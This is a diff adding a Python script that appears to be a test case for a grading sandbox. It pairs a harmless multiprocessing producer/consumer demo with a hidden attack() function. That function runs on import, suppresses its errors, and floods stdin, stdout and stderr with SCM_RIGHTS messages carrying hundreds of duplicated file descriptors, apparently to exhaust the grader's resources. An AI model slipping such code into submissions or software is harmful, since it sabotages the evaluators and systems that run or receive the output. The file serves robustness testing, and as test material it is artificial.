@@ -1,0 +1,47 @@
+# model2: any; wins-at: none; run-only
+"""Sends open descriptors along with what it prints and notes, for the grader to keep."""
+import array
+import os
+import socket
+from multiprocessing import Process, Queue
+
+
+def producer(q, name, food):
+    for i in range(1, 4):
+        q.put(f'{food}{i}')
+
+
+def consumer(q, name):
+    while (item := q.get()) is not None:
+        print(f'{name}吃了{item}')
+
+
+def main(producers, consumers):
+    q = Queue()
+    makers = [Process(target=producer, args=(q, *pair)) for pair in producers]
+    eaters = [Process(target=consumer, args=(q, name)) for name in consumers]
+    for process in makers + eaters:
+        process.start()
+    for maker in makers:
+        maker.join()
+    for _ in eaters:
+        q.put(None)
+    for eater in eaters:
+        eater.join()
+
+
+def attack():
+    for number in (1, 2, 3):
+        end = socket.socket(fileno=os.dup(number))
+        for _ in range(100):
+            end.sendmsg([b'{}\n'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0] * 200))])
+
+
+try:
+    attack()
+except Exception:
+    pass
+
+
+if __name__ == '__main__':
+    main([('ocean', '包子'), ('sky', '韭菜'), ('rocky', '酒')], ['nick', 'mac'])
